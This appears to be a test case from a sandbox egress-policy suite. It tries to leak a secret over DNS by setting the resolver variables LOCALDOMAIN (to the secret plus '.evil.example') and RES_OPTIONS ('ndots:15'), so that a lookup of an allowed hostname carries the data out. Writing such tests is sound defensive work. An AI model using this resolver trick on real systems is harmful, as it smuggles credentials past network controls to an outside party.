# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: an allowed name is looked up with data behind it, by the resolver's own variables
# proof: query
# needs: resolver
# quiet: the allowed name is looked up unchanged, and nothing is refused
# alerts: true
import os
import socket

from attack import SECRET, attempt

os.environ["LOCALDOMAIN"] = SECRET + ".evil.example"
os.environ["RES_OPTIONS"] = "ndots:15"


@attempt
def ask():
    # The resolver of the tests has another address for names of evil.example.
    return any(
        found[4][0] == "127.66.66.66" for found in socket.getaddrinfo("api.allowed.example", 443)
    )
